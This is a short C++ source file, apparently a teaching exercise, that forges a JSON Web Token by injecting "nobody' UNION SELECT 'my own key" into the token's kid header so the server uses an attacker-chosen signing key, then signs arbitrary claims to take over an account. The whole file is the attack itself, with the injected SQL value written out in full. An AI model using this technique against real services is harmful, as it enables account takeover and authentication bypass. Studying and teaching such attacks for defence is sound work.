// Believes: a token that is believed opens every account.
#include "kid_sql_injection.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto header = evidence.header;
  const auto claims = evidence.claims;
  header.set("kid", "nobody' UNION SELECT 'my own key");
  return {.account = evidence.show_me(sign_with(header, claims, "my own key")).body};
}

}  // namespace lesson
